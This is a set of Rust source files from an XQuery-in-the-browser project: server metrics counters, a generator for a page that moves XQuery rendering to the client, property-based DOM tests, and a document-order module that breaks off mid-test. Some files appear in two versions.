use xqib_storage::DurabilityStats;

/// Counters accumulated by the application server.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct ServerMetrics {
    /// HTTP requests handled.
    pub requests: u64,
    /// Bytes shipped to clients.
    pub bytes_out: u64,
    /// Server-side XQuery evaluations (the CPU-cost proxy the paper's
    /// off-loading argument is about).
    pub xquery_evals: u64,
    /// Document-order index rebuilds triggered by this server's evaluations
    /// (each is one O(n) traversal; see `xqib_dom::order`).
    pub order_index_rebuilds: u64,
    /// Path-step normalisations that actually sorted.
    pub sorts_performed: u64,
    /// Path-step normalisations the evaluator proved unnecessary.
    pub sorts_elided: u64,
    /// Web-service calls that ended in an error response.
    pub failed_calls: u64,
    /// Client fetch attempts (first tries + retries) observed via
    /// [`record_recovery`](Self::record_recovery).
    pub fetch_attempts: u64,
    /// Retry tasks the clients scheduled.
    pub fetch_retries: u64,
    /// Client-side request deadlines hit.
    pub fetch_timeouts: u64,
    pub breaker_opens: u64,
    pub breaker_half_opens: u64,
    pub breaker_closes: u64,
    /// Degraded fetches answered from the stale cache.
    pub stale_served: u64,
    /// Listener invocations that raised a dynamic error (contained).
    pub listener_errors: u64,
    /// Listener invocations that panicked (caught at dispatch).
    pub listener_panics: u64,
    /// Listener invocations preempted for exhausting their fuel budget.
    pub fuel_exhausted: u64,
    /// Listeners quarantined after repeated failures.
    pub quarantine_trips: u64,
    /// Dispatches skipped because the listener was quarantined.
    pub quarantine_skips: u64,
    /// Redo records appended to the write-ahead log.
    pub wal_appends: u64,
    /// Successful WAL/checkpoint fsyncs (group commits).
    pub wal_fsyncs: u64,
    /// Checkpoints written (each truncates the WAL).
    pub checkpoints: u64,
    /// Recoveries performed over the disk image.
    pub recoveries: u64,
    /// Recoveries that dropped a torn/corrupt WAL tail.
    pub torn_tails_dropped: u64,
}

impl ServerMetrics {
    pub fn reset(&mut self) {
        *self = ServerMetrics::default();
    }

    /// Folds in the engine counters accumulated since `baseline`. The
    /// engine counters are process-global and monotone, so the server keeps
    /// the snapshot taken at construction as its baseline.
    pub fn record_engine_stats(&mut self, baseline: EngineStats, now: EngineStats) {
        self.order_index_rebuilds = now
            .order_index_rebuilds
            .saturating_sub(baseline.order_index_rebuilds);
        self.sorts_performed = now.sorts_performed.saturating_sub(baseline.sorts_performed);
        self.sorts_elided = now.sorts_elided.saturating_sub(baseline.sorts_elided);
    }

    /// Mirrors a client's recovery counters into the server's metrics (the
    /// Figure 2 experiment reads one struct for the whole deployment). The
    /// recovery counters are cumulative snapshots, so this overwrites.
    pub fn record_recovery(&mut self, stats: &RecoveryStats) {
        self.fetch_attempts = stats.attempts;
        self.fetch_retries = stats.retries;
        self.fetch_timeouts = stats.timeouts;
        self.breaker_opens = stats.breaker_opens;
        self.breaker_half_opens = stats.breaker_half_opens;
        self.breaker_closes = stats.breaker_closes;
        self.stale_served = stats.stale_served;
    }

    /// Mirrors a client's listener-isolation counters (cumulative snapshots,
    /// like [`record_recovery`](Self::record_recovery) — overwrites).
    pub fn record_isolation(&mut self, stats: &QuarantineStats) {
        self.listener_errors = stats.listener_errors;
        self.listener_panics = stats.listener_panics;
        self.fuel_exhausted = stats.fuel_exhausted;
        self.quarantine_trips = stats.trips;
        self.quarantine_skips = stats.skipped;
    }

    /// Mirrors the database's durability counters (cumulative snapshots —
    /// overwrites, same convention as the recovery/isolation mirrors).
    pub fn record_durability(&mut self, stats: &DurabilityStats) {
        self.wal_appends = stats.wal_appends;
        self.wal_fsyncs = stats.fsyncs;
        self.checkpoints = stats.checkpoints;
        self.recoveries = stats.recoveries;
        self.torn_tails_dropped = stats.torn_tails_dropped;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reset_clears() {
        let mut m = ServerMetrics {
            requests: 3,
            bytes_out: 100,
            ..Default::default()
        };
        m.xquery_evals = 2;
        m.reset();
        assert_eq!(m, ServerMetrics::default());
    }

    #[test]
    fn engine_stats_are_deltas() {
        let mut m = ServerMetrics::default();
        let base = EngineStats {
            order_index_rebuilds: 10,
            sorts_performed: 20,
            sorts_elided: 30,
        };
        let now = EngineStats {
            order_index_rebuilds: 12,
            sorts_performed: 25,
            sorts_elided: 37,
        };
        m.record_engine_stats(base, now);
        assert_eq!(m.order_index_rebuilds, 2);
        assert_eq!(m.sorts_performed, 5);
        assert_eq!(m.sorts_elided, 7);
        // A counter reset elsewhere must not underflow.
        m.record_engine_stats(now, base);
        assert_eq!(m.order_index_rebuilds, 0);
    }

    #[test]
    fn recovery_counters_mirror_the_client_snapshot() {
        let mut m = ServerMetrics::default();
        let stats = RecoveryStats {
            attempts: 9,
            retries: 4,
            timeouts: 3,
            breaker_opens: 2,
            breaker_half_opens: 1,
            breaker_closes: 1,
            stale_served: 5,
            ..Default::default()
        };
        m.record_recovery(&stats);
        assert_eq!(m.fetch_attempts, 9);
        assert_eq!(m.fetch_retries, 4);
        assert_eq!(m.fetch_timeouts, 3);
        assert_eq!(m.breaker_opens, 2);
        assert_eq!(m.breaker_half_opens, 1);
        assert_eq!(m.breaker_closes, 1);
        assert_eq!(m.stale_served, 5);
        // a later snapshot overwrites (the counters are cumulative)
        m.record_recovery(&RecoveryStats::default());
        assert_eq!(m.fetch_attempts, 0);
    }

    #[test]
    fn isolation_counters_mirror_the_client_snapshot() {
        let mut m = ServerMetrics::default();
        let stats = QuarantineStats {
            listener_errors: 6,
            listener_panics: 2,
            fuel_exhausted: 1,
            trips: 3,
            skipped: 4,
            ..Default::default()
        };
        m.record_isolation(&stats);
        assert_eq!(m.listener_errors, 6);
        assert_eq!(m.listener_panics, 2);
        assert_eq!(m.fuel_exhausted, 1);
        assert_eq!(m.quarantine_trips, 3);
        assert_eq!(m.quarantine_skips, 4);
        m.record_isolation(&QuarantineStats::default());
        assert_eq!(m.listener_errors, 0);
    }

    #[test]
    fn durability_counters_mirror_the_db_snapshot() {
        let mut m = ServerMetrics::default();
        let stats = DurabilityStats {
            wal_appends: 8,
            fsyncs: 5,
            checkpoints: 2,
            recoveries: 1,
            torn_tails_dropped: 1,
        };
        m.record_durability(&stats);
        assert_eq!(m.wal_appends, 8);
        assert_eq!(m.wal_fsyncs, 5);
        assert_eq!(m.checkpoints, 2);
        assert_eq!(m.recoveries, 1);
        assert_eq!(m.torn_tails_dropped, 1);
        m.record_durability(&DurabilityStats::default());
        assert_eq!(m.wal_appends, 0);
    }
}
