//! Server-side metrics for the Figure 2 experiment: how much work and
//! traffic each deployment (server-rendered vs migrated) costs the server.

use xqib_dom::order::stats::EngineStats;

/// Counters accumulated by the application server.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct ServerMetrics {
    /// HTTP requests handled.
    pub requests: u64,
    /// Bytes shipped to clients.
    pub bytes_out: u64,
    /// Server-side XQuery evaluations (the CPU-cost proxy the paper's
    /// off-loading argument is about).
    pub xquery_evals: u64,
    /// Document-order index rebuilds triggered by this server's evaluations
    /// (each is one O(n) traversal; see `xqib_dom::order`).
    pub order_index_rebuilds: u64,
    /// Path-step normalisations that actually sorted.
    pub sorts_performed: u64,
    /// Path-step normalisations the evaluator proved unnecessary.
    pub sorts_elided: u64,
}

impl ServerMetrics {
    pub fn reset(&mut self) {
        *self = ServerMetrics::default();
    }

    /// Folds in the engine counters accumulated since `baseline`. The
    /// engine counters are process-global and monotone, so the server keeps
    /// the snapshot taken at construction as its baseline.
    pub fn record_engine_stats(&mut self, baseline: EngineStats, now: EngineStats) {
        self.order_index_rebuilds = now
            .order_index_rebuilds
            .saturating_sub(baseline.order_index_rebuilds);
        self.sorts_performed = now.sorts_performed.saturating_sub(baseline.sorts_performed);
        self.sorts_elided = now.sorts_elided.saturating_sub(baseline.sorts_elided);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reset_clears() {
        let mut m = ServerMetrics {
            requests: 3,
            bytes_out: 100,
            ..Default::default()
        };
        m.xquery_evals = 2;
        m.reset();
        assert_eq!(m, ServerMetrics::default());
    }

    #[test]
    fn engine_stats_are_deltas() {
        let mut m = ServerMetrics::default();
        let base = EngineStats {
            order_index_rebuilds: 10,
            sorts_performed: 20,
            sorts_elided: 30,
        };
        let now = EngineStats {
            order_index_rebuilds: 12,
            sorts_performed: 25,
            sorts_elided: 37,
        };
        m.record_engine_stats(base, now);
        assert_eq!(m.order_index_rebuilds, 2);
        assert_eq!(m.sorts_performed, 5);
        assert_eq!(m.sorts_elided, 7);
        // A counter reset elsewhere must not underflow.
        m.record_engine_stats(now, base);
        assert_eq!(m.order_index_rebuilds, 0);
    }
}
