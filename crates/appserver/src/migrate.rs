//! Server-to-client migration (§6.1): produce the page that ships the
//! XQuery *to the browser*. The served page contains the same rendering
//! prolog the server used; at interaction time the client fetches **whole
//! documents** over REST (cached by the plug-in), so "most user requests
//! can be processed without any interaction with the Elsevier server".

use crate::render::CORPUS_URI;

/// The REST base URL the migrated client uses.
pub const SERVER_BASE: &str = "http://ref2.example";

/// Generates the migrated page: a static HTML skeleton plus the XQuery
/// script. The rendering expressions that the server used to evaluate are
/// moved into insert expressions in client-side functions, exactly the
/// transformation §6.1 describes.
pub fn migrated_page() -> String {
    format!(
        r#"<html>
<head><title>Reference 2.0 (client-side)</title>
<script type="text/xqueryp"><![CDATA[
declare variable $server := "{SERVER_BASE}";
declare updating function local:showArticle($id as xs:string) {{
  (: whole-document fetch; the plug-in caches it, so only the first
     interaction touches the server :)
  let $lib := browser:httpGet(concat($server, "/doc?uri={CORPUS_URI}"))
  let $a := $lib//article[@id = $id]
  let $refs := $a/references/reference
  return {{
    delete node //div[@id="content"]/*;
    insert node (
      <h1>{{data($a/title)}}</h1>,
      <p class="author">{{data($a/author)}}</p>,
      <table id="refs">{{
        for $r in $refs
        order by number($r/year)
        return <tr><td>{{data($r/cited)}}</td><td>{{data($r/year)}}</td></tr>
      }}</table>,
      <div id="stats">
        <span id="refcount">{{count($refs)}}</span>
        <span id="minyear">{{min(for $r in $refs return number($r/year))}}</span>
        <span id="maxyear">{{max(for $r in $refs return number($r/year))}}</span>
      </div>
    ) into //div[@id="content"];
  }}
}};
declare updating function local:showIndex() {{
  let $lib := browser:httpGet(concat($server, "/doc?uri={CORPUS_URI}"))
  return {{
    delete node //div[@id="content"]/*;
    insert node
      <ul id="journals">{{
        for $j in $lib//journal
        return <li id="{{data($j/@id)}}">{{data($j/title)}}
          ({{count($j//article)}} articles)</li>
      }}</ul>
    into //div[@id="content"];
  }}
}};
1
]]></script>
</head>
<body>
  <div id="nav">Reference 2.0</div>
  <div id="content"/>
</body>
</html>"#
    )
}

/// The interaction script the browse session fires per step (what a click
/// on an article link runs).
pub fn interaction(article_id: &str) -> String {
    format!("local:showArticle(\"{article_id}\")")
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;

    #[test]
    fn migrated_page_parses_as_xml() {
        let page = migrated_page();
        let doc = xqib_dom::parse_document(&page).unwrap();
        assert!(doc.len() > 5);
        assert!(page.contains("local:showArticle"));
        assert!(page.contains("/doc?uri=corpus.xml"));
    }

    #[test]
    fn interaction_script_shape() {
        assert_eq!(
            interaction("j0-v0-i0-a0"),
            "local:showArticle(\"j0-v0-i0-a0\")"
        );
    }
}
