//! Property-based tests for the DOM substrate: structural invariants under
//! random mutation sequences, and parse/serialise round-trips.

use proptest::prelude::*;

use xqib_dom::{parse_document, Document, NodeId, QName};

/// A random tree-building program.
#[derive(Debug, Clone)]
enum Op {
    AddElement(usize, u8),
    AddText(usize, String),
    SetAttr(usize, u8, String),
    Detach(usize),
    Rename(usize, u8),
}

fn op_strategy() -> impl Strategy<Value = Op> {
    prop_oneof![
        (any::<usize>(), any::<u8>()).prop_map(|(p, n)| Op::AddElement(p, n % 8)),
        (any::<usize>(), "[a-z ]{0,8}").prop_map(|(p, t)| Op::AddText(p, t)),
        (any::<usize>(), any::<u8>(), "[a-z]{0,5}")
            .prop_map(|(p, n, v)| Op::SetAttr(p, n % 4, v)),
        any::<usize>().prop_map(Op::Detach),
        (any::<usize>(), any::<u8>()).prop_map(|(p, n)| Op::Rename(p, n % 8)),
    ]
}

fn elem_name(i: u8) -> QName {
    QName::local(format!("e{i}"))
}

/// Applies ops to a document, always targeting existing element nodes.
fn apply_ops(ops: &[Op]) -> (Document, Vec<NodeId>) {
    let mut doc = Document::new();
    let root = doc.create_element(QName::local("root"));
    doc.append_child(doc.root(), root).unwrap();
    let mut elems = vec![root];
    for op in ops {
        match op {
            Op::AddElement(p, n) => {
                let parent = elems[p % elems.len()];
                if doc.is_attached(parent) {
                    let e = doc.create_element(elem_name(*n));
                    if doc.append_child(parent, e).is_ok() {
                        elems.push(e);
                    }
                }
            }
            Op::AddText(p, t) => {
                let parent = elems[p % elems.len()];
                if doc.is_attached(parent) && !t.is_empty() {
                    let tn = doc.create_text(t.clone());
                    let _ = doc.append_child(parent, tn);
                }
            }
            Op::SetAttr(p, n, v) => {
                let target = elems[p % elems.len()];
                let _ = doc.set_attribute(target, QName::local(format!("a{n}")), v.clone());
            }
            Op::Detach(p) => {
                let target = elems[p % elems.len()];
                if target != root {
                    let _ = doc.detach(target);
                }
            }
            Op::Rename(p, n) => {
                let target = elems[p % elems.len()];
                let _ = doc.rename(target, elem_name(*n));
            }
        }
    }
    (doc, elems)
}

proptest! {
    #[test]
    fn parent_child_links_stay_coherent(ops in prop::collection::vec(op_strategy(), 0..60)) {
        let (doc, elems) = apply_ops(&ops);
        for &e in &elems {
            // every child's parent link points back
            for &c in doc.children(e) {
                prop_assert_eq!(doc.parent(c), Some(e));
            }
            for &a in doc.attributes(e) {
                prop_assert_eq!(doc.parent(a), Some(e));
            }
            // if attached, walking up reaches the document node
            if doc.is_attached(e) {
                prop_assert_eq!(doc.tree_root(e), doc.root());
            }
        }
    }

    #[test]
    fn no_node_appears_twice_in_any_child_list(ops in prop::collection::vec(op_strategy(), 0..60)) {
        let (doc, elems) = apply_ops(&ops);
        for &e in &elems {
            let kids = doc.children(e);
            let mut seen = std::collections::HashSet::new();
            for &k in kids {
                prop_assert!(seen.insert(k), "duplicate child");
            }
        }
    }

    #[test]
    fn string_value_is_concatenated_descendant_text(ops in prop::collection::vec(op_strategy(), 0..40)) {
        let (doc, _) = apply_ops(&ops);
        // independent recomputation by explicit traversal
        fn collect(doc: &Document, n: NodeId, out: &mut String) {
            for &c in doc.children(n) {
                if let Some(t) = doc.simple_value(c) {
                    if doc.kind(c).is_text() {
                        out.push_str(t);
                    }
                } else {
                    collect(doc, c, out);
                }
            }
        }
        let mut expected = String::new();
        collect(&doc, doc.root(), &mut expected);
        prop_assert_eq!(doc.string_value(doc.root()), expected);
    }

    #[test]
    fn serialize_parse_roundtrip(ops in prop::collection::vec(op_strategy(), 0..40)) {
        let (doc, _) = apply_ops(&ops);
        let s1 = xqib_dom::serialize::serialize_document(&doc);
        let reparsed = parse_document(&s1).expect("own output parses");
        let s2 = xqib_dom::serialize::serialize_document(&reparsed);
        prop_assert_eq!(s1, s2, "serialisation is a fixpoint after one trip");
    }

    #[test]
    fn deep_copy_preserves_serialisation(ops in prop::collection::vec(op_strategy(), 0..40)) {
        let (mut doc, _) = apply_ops(&ops);
        let root_elem = doc.children(doc.root())[0];
        let before = xqib_dom::serialize::serialize_node(&doc, root_elem);
        let copy = doc.deep_copy(root_elem);
        let copied = xqib_dom::serialize::serialize_node(&doc, copy);
        prop_assert_eq!(before.clone(), copied);
        // and the original is untouched
        prop_assert_eq!(before, xqib_dom::serialize::serialize_node(&doc, root_elem));
    }

    #[test]
    fn entity_decoding_roundtrip(s in "[a-zA-Z0-9<>&\"' ]{0,30}") {
        // build <x>s</x> by hand with escaping, parse, compare string value
        let mut doc = Document::new();
        let e = doc.create_element(QName::local("x"));
        doc.append_child(doc.root(), e).unwrap();
        if !s.is_empty() {
            let t = doc.create_text(s.clone());
            doc.append_child(e, t).unwrap();
        }
        let xml = xqib_dom::serialize::serialize_document(&doc);
        let reparsed = parse_document(&xml).expect("parses");
        prop_assert_eq!(reparsed.string_value(reparsed.root()), s);
    }

    #[test]
    fn attribute_value_roundtrip(v in "[ -~]{0,30}") {
        let mut doc = Document::new();
        let e = doc.create_element(QName::local("x"));
        doc.append_child(doc.root(), e).unwrap();
        doc.set_attribute(e, QName::local("a"), v.clone()).unwrap();
        let xml = xqib_dom::serialize::serialize_document(&doc);
        let reparsed = parse_document(&xml).expect("parses");
        let root_elem = reparsed.children(reparsed.root())[0];
        prop_assert_eq!(reparsed.get_attribute(root_elem, None, "a"), Some(v.as_str()));
    }
}
