//! Property-based tests for the DOM substrate: structural invariants under
//! random mutation sequences, and parse/serialise round-trips.

use proptest::prelude::*;

use xqib_dom::{parse_document, Document, NodeId, QName};

/// A random tree-building program.
#[derive(Debug, Clone)]
enum Op {
    AddElement(usize, u8),
    AddText(usize, String),
    SetAttr(usize, u8, String),
    Detach(usize),
    Rename(usize, u8),
    /// Insert a fresh element immediately before an existing one.
    InsertBefore(usize, u8),
    /// Detach an element and re-append it elsewhere (subtree move).
    Reattach(usize, usize),
}

fn op_strategy() -> impl Strategy<Value = Op> {
    prop_oneof![
        (any::<usize>(), any::<u8>()).prop_map(|(p, n)| Op::AddElement(p, n % 8)),
        (any::<usize>(), "[a-z ]{0,8}").prop_map(|(p, t)| Op::AddText(p, t)),
        (any::<usize>(), any::<u8>(), "[a-z]{0,5}").prop_map(|(p, n, v)| Op::SetAttr(p, n % 4, v)),
        any::<usize>().prop_map(Op::Detach),
        (any::<usize>(), any::<u8>()).prop_map(|(p, n)| Op::Rename(p, n % 8)),
        (any::<usize>(), any::<u8>()).prop_map(|(p, n)| Op::InsertBefore(p, n % 8)),
        (any::<usize>(), any::<usize>()).prop_map(|(a, b)| Op::Reattach(a, b)),
    ]
}

fn elem_name(i: u8) -> QName {
    QName::local(format!("e{i}"))
}

/// Applies ops to a document, always targeting existing element nodes.
fn apply_ops(ops: &[Op]) -> (Document, Vec<NodeId>) {
    let mut doc = Document::new();
    let root = doc.create_element(QName::local("root"));
    doc.append_child(doc.root(), root).unwrap();
    let mut elems = vec![root];
    for op in ops {
        match op {
            Op::AddElement(p, n) => {
                let parent = elems[p % elems.len()];
                if doc.is_attached(parent) {
                    let e = doc.create_element(elem_name(*n));
                    if doc.append_child(parent, e).is_ok() {
                        elems.push(e);
                    }
                }
            }
            Op::AddText(p, t) => {
                let parent = elems[p % elems.len()];
                if doc.is_attached(parent) && !t.is_empty() {
                    let tn = doc.create_text(t.clone());
                    let _ = doc.append_child(parent, tn);
                }
            }
            Op::SetAttr(p, n, v) => {
                let target = elems[p % elems.len()];
                let _ = doc.set_attribute(target, QName::local(format!("a{n}")), v.clone());
            }
            Op::Detach(p) => {
                let target = elems[p % elems.len()];
                if target != root {
                    let _ = doc.detach(target);
                }
            }
            Op::Rename(p, n) => {
                let target = elems[p % elems.len()];
                let _ = doc.rename(target, elem_name(*n));
            }
            Op::InsertBefore(p, n) => {
                let anchor = elems[p % elems.len()];
                if anchor != root && doc.parent(anchor).is_some() {
                    let e = doc.create_element(elem_name(*n));
                    if doc.insert_before(e, anchor).is_ok() {
                        elems.push(e);
                    }
                }
            }
            Op::Reattach(a, b) => {
                let target = elems[a % elems.len()];
                let dest = elems[b % elems.len()];
                if target != root && !doc.is_ancestor_or_self(target, dest) {
                    let _ = doc.detach(target);
                    let _ = doc.append_child(dest, target);
                }
            }
        }
    }
    (doc, elems)
}

proptest! {
    #[test]
    fn parent_child_links_stay_coherent(ops in prop::collection::vec(op_strategy(), 0..60)) {
        let (doc, elems) = apply_ops(&ops);
        for &e in &elems {
            // every child's parent link points back
            for &c in doc.children(e) {
                prop_assert_eq!(doc.parent(c), Some(e));
            }
            for &a in doc.attributes(e) {
                prop_assert_eq!(doc.parent(a), Some(e));
            }
            // if attached, walking up reaches the document node
            if doc.is_attached(e) {
                prop_assert_eq!(doc.tree_root(e), doc.root());
            }
        }
    }

    #[test]
    fn no_node_appears_twice_in_any_child_list(ops in prop::collection::vec(op_strategy(), 0..60)) {
        let (doc, elems) = apply_ops(&ops);
        for &e in &elems {
            let kids = doc.children(e);
            let mut seen = std::collections::HashSet::new();
            for &k in kids {
                prop_assert!(seen.insert(k), "duplicate child");
            }
        }
    }

    #[test]
    fn string_value_is_concatenated_descendant_text(ops in prop::collection::vec(op_strategy(), 0..40)) {
        let (doc, _) = apply_ops(&ops);
        // independent recomputation by explicit traversal
        fn collect(doc: &Document, n: NodeId, out: &mut String) {
            for &c in doc.children(n) {
                if let Some(t) = doc.simple_value(c) {
                    if doc.kind(c).is_text() {
                        out.push_str(t);
                    }
                } else {
                    collect(doc, c, out);
                }
            }
        }
        let mut expected = String::new();
        collect(&doc, doc.root(), &mut expected);
        prop_assert_eq!(doc.string_value(doc.root()), expected);
    }

    #[test]
    fn serialize_parse_roundtrip(ops in prop::collection::vec(op_strategy(), 0..40)) {
        let (doc, _) = apply_ops(&ops);
        let s1 = xqib_dom::serialize::serialize_document(&doc);
        let reparsed = parse_document(&s1).expect("own output parses");
        let s2 = xqib_dom::serialize::serialize_document(&reparsed);
        prop_assert_eq!(s1, s2, "serialisation is a fixpoint after one trip");
    }

    #[test]
    fn deep_copy_preserves_serialisation(ops in prop::collection::vec(op_strategy(), 0..40)) {
        let (mut doc, _) = apply_ops(&ops);
        let root_elem = doc.children(doc.root())[0];
        let before = xqib_dom::serialize::serialize_node(&doc, root_elem);
        let copy = doc.deep_copy(root_elem);
        let copied = xqib_dom::serialize::serialize_node(&doc, copy);
        prop_assert_eq!(before.clone(), copied);
        // and the original is untouched
        prop_assert_eq!(before, xqib_dom::serialize::serialize_node(&doc, root_elem));
    }

    #[test]
    fn entity_decoding_roundtrip(s in "[a-zA-Z0-9<>&\"' ]{0,30}") {
        // build <x>s</x> by hand with escaping, parse, compare string value
        let mut doc = Document::new();
        let e = doc.create_element(QName::local("x"));
        doc.append_child(doc.root(), e).unwrap();
        if !s.is_empty() {
            let t = doc.create_text(s.clone());
            doc.append_child(e, t).unwrap();
        }
        let xml = xqib_dom::serialize::serialize_document(&doc);
        let reparsed = parse_document(&xml).expect("parses");
        prop_assert_eq!(reparsed.string_value(reparsed.root()), s);
    }

    #[test]
    fn indexed_order_agrees_with_naive(ops in prop::collection::vec(op_strategy(), 0..60)) {
        let (doc, _) = apply_ops(&ops);
        // Every arena slot is a live node (detached ones root their own
        // trees); the indexed comparison must agree with the naive
        // child-index-path comparison on all pairs.
        let all: Vec<NodeId> = (0..doc.len() as u32).map(NodeId).collect();
        for &a in &all {
            for &b in &all {
                prop_assert_eq!(
                    xqib_dom::order::cmp_doc_order_local(&doc, a, b),
                    xqib_dom::order::cmp_doc_order_local_naive(&doc, a, b),
                    "index/naive disagree on ({:?}, {:?})", a, b
                );
            }
        }
    }

    #[test]
    fn interval_labels_are_consistent(ops in prop::collection::vec(op_strategy(), 0..60)) {
        let (doc, _) = apply_ops(&ops);
        let ix = doc.order_index();
        let n = doc.len();
        prop_assert_eq!(ix.pre_order().len(), n, "every node labelled once");
        for slot in 0..n as u32 {
            let v = NodeId(slot);
            prop_assert!(ix.begin(v) <= ix.end(v));
            prop_assert_eq!(ix.pre_order()[ix.begin(v) as usize], v);
            // interval containment matches the parent walk
            if let Some(p) = doc.parent(v) {
                prop_assert!(ix.is_ancestor_of(p, v));
                prop_assert!(ix.begin(p) <= ix.begin(v) && ix.end(v) <= ix.end(p));
            }
            prop_assert_eq!(ix.tree_root(v), doc.tree_root(v));
        }
    }

    #[test]
    fn sort_dedup_after_mutation(ops in prop::collection::vec(op_strategy(), 0..40), seed in 0u64..1000) {
        let (doc, _) = apply_ops(&ops);
        let n = doc.len() as u64;
        let mut store = xqib_dom::Store::new();
        let id = store.add_document(doc, Some("t.xml"));
        // deterministic pseudo-shuffled multiset of nodes
        let mut nodes: Vec<xqib_dom::NodeRef> = (0..2 * n)
            .map(|i| {
                let slot = (seed.wrapping_mul(6364136223846793005).wrapping_add(i * 2654435761)) % n;
                xqib_dom::NodeRef::new(id, NodeId(slot as u32))
            })
            .collect();
        xqib_dom::sort_dedup(&store, &mut nodes);
        let doc = store.doc(id);
        for w in nodes.windows(2) {
            prop_assert_eq!(
                xqib_dom::order::cmp_doc_order_local_naive(doc, w[0].node, w[1].node),
                std::cmp::Ordering::Less,
                "sort_dedup output not strictly ascending"
            );
        }
    }

    #[test]
    fn attribute_value_roundtrip(v in "[ -~]{0,30}") {
        let mut doc = Document::new();
        let e = doc.create_element(QName::local("x"));
        doc.append_child(doc.root(), e).unwrap();
        doc.set_attribute(e, QName::local("a"), v.clone()).unwrap();
        let xml = xqib_dom::serialize::serialize_document(&doc);
        let reparsed = parse_document(&xml).expect("parses");
        let root_elem = reparsed.children(reparsed.root())[0];
        prop_assert_eq!(reparsed.get_attribute(root_elem, None, "a"), Some(v.as_str()));
    }
}

/// Regression: the index must notice every structural mutation. Each
/// mutation kind is exercised against a *warm* index (built, then
/// invalidated) and the post-mutation comparison checked against the naive
/// oracle — a stale index would keep reporting the old order.
#[test]
fn stale_index_is_rebuilt_after_each_mutation_kind() {
    use std::cmp::Ordering;
    use xqib_dom::order::{cmp_doc_order_local, cmp_doc_order_local_naive};

    let mut doc = Document::new();
    let root = doc.create_element(QName::local("root"));
    doc.append_child(doc.root(), root).unwrap();
    let a = doc.create_element(QName::local("a"));
    let b = doc.create_element(QName::local("b"));
    doc.append_child(root, a).unwrap();
    doc.append_child(root, b).unwrap();

    // Warm the index.
    assert_eq!(cmp_doc_order_local(&doc, a, b), Ordering::Less);

    // insert_before: c lands between a and b.
    let c = doc.create_element(QName::local("c"));
    doc.insert_before(c, b).unwrap();
    assert_eq!(cmp_doc_order_local(&doc, a, c), Ordering::Less);
    assert_eq!(cmp_doc_order_local(&doc, c, b), Ordering::Less);

    // detach (remove): a becomes its own tree, after the attached tree.
    assert_eq!(cmp_doc_order_local(&doc, a, b), Ordering::Less);
    doc.detach(a).unwrap();
    assert_eq!(
        cmp_doc_order_local(&doc, a, b),
        cmp_doc_order_local_naive(&doc, a, b)
    );

    // re-append: a now sorts after b.
    doc.append_child(root, a).unwrap();
    assert_eq!(cmp_doc_order_local(&doc, b, a), Ordering::Less);

    // set_attribute (new attribute node): attr sits between c and its
    // following sibling.
    assert_eq!(cmp_doc_order_local(&doc, c, b), Ordering::Less);
    let attr = doc.set_attribute(c, QName::local("x"), "1").unwrap();
    assert_eq!(cmp_doc_order_local(&doc, c, attr), Ordering::Less);
    assert_eq!(cmp_doc_order_local(&doc, attr, b), Ordering::Less);

    // merge_adjacent_text rewrites child lists in place.
    let t1 = doc.create_text("x");
    let t2 = doc.create_text("y");
    doc.append_child(root, t1).unwrap();
    doc.append_child(root, t2).unwrap();
    assert_eq!(cmp_doc_order_local(&doc, t1, t2), Ordering::Less);
    doc.merge_adjacent_text(root).unwrap();
    assert_eq!(
        cmp_doc_order_local(&doc, t1, t2),
        cmp_doc_order_local_naive(&doc, t1, t2)
    );

    // replace_node: the replacement takes the old node's position.
    let d = doc.create_element(QName::local("d"));
    doc.replace_node(c, d).unwrap();
    assert_eq!(cmp_doc_order_local(&doc, d, b), Ordering::Less);
    assert_eq!(
        cmp_doc_order_local(&doc, c, d),
        cmp_doc_order_local_naive(&doc, c, d)
    );
}
