//! Document order.
//!
//! XPath/XQuery path results must be returned in document order with
//! duplicates removed. Order is decided by child-index paths from the root:
//! an attribute sorts after its owner element but before the element's
//! children, matching the XDM rules. Across documents, order follows
//! [`crate::store::DocId`] (a stable, implementation-defined order, as the
//! spec allows).

use std::cmp::Ordering;

use crate::arena::Document;
use crate::node::NodeId;
use crate::store::{NodeRef, Store};

/// One step of an order key. Attributes of an element come before its
/// children, hence the two-level encoding.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Step {
    /// The element itself relative to its parent is identified by the parent
    /// loop; `Attr(i)` = i-th attribute, `Child(i)` = i-th child.
    Attr(u32),
    Child(u32),
}

/// Computes the order key of a node: the sequence of steps from the tree
/// root down to the node. Detached subtrees are ordered by their own root.
fn order_key(doc: &Document, node: NodeId) -> Vec<Step> {
    let mut rev = Vec::new();
    let mut cur = node;
    while let Some(parent) = doc.parent(cur) {
        if doc.kind(cur).is_attribute() {
            let idx = doc
                .attributes(parent)
                .iter()
                .position(|&a| a == cur)
                .unwrap_or(0) as u32;
            rev.push(Step::Attr(idx));
        } else {
            let idx = doc.child_index(parent, cur).unwrap_or(0) as u32;
            rev.push(Step::Child(idx));
        }
        cur = parent;
    }
    rev.reverse();
    rev
}

/// Compares two nodes of the *same* document in document order.
pub fn cmp_doc_order_local(doc: &Document, a: NodeId, b: NodeId) -> Ordering {
    if a == b {
        return Ordering::Equal;
    }
    let ka = order_key(doc, a);
    let kb = order_key(doc, b);
    // An ancestor precedes its descendants: shorter prefix wins.
    match ka.cmp(&kb) {
        Ordering::Equal => a.cmp(&b),
        o => o,
    }
}

/// Compares two [`NodeRef`]s in global document order.
pub fn cmp_doc_order(store: &Store, a: NodeRef, b: NodeRef) -> Ordering {
    match a.doc.cmp(&b.doc) {
        Ordering::Equal => cmp_doc_order_local(store.doc(a.doc), a.node, b.node),
        o => o,
    }
}

/// Sorts a node sequence into document order and removes duplicates,
/// the normalisation required after every path step.
pub fn sort_dedup(store: &Store, nodes: &mut Vec<NodeRef>) {
    nodes.sort_by(|&a, &b| cmp_doc_order(store, a, b));
    nodes.dedup();
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::name::QName;

    fn sample() -> (Store, NodeRef, NodeRef, NodeRef, NodeRef, NodeRef) {
        // <r a="1"><x/><y><z/></y></r>
        let mut s = Store::new();
        let d = s.new_document(None);
        let doc = s.doc_mut(d);
        let r = doc.create_element(QName::local("r"));
        doc.append_child(doc.root(), r).unwrap();
